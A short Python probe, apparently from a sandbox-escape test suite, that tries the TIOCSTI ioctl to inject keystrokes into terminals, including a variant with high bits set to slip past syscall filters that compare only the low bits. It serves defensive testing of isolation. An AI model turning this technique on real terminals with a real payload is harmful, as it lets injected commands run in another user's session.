from attack import *

@attack
def type_in():
    """Puts letters into a terminal, as if its owner had typed; also with the bits set that no filter compares."""
    import pty
    import termios

    found = []
    terminals = [0, 1, 2]
    try:
        terminals += pty.openpty()
    except OSError:
        pass
    for number in terminals:
        for request in (termios.TIOCSTI, termios.TIOCSTI | 1 << 32):
            try:
                syscall("ioctl", number, request, ctypes.c_char_p(b"x"))
                found.append(f"{number}:{request:x}")
            except OSError:
                pass
    return " ".join(found)
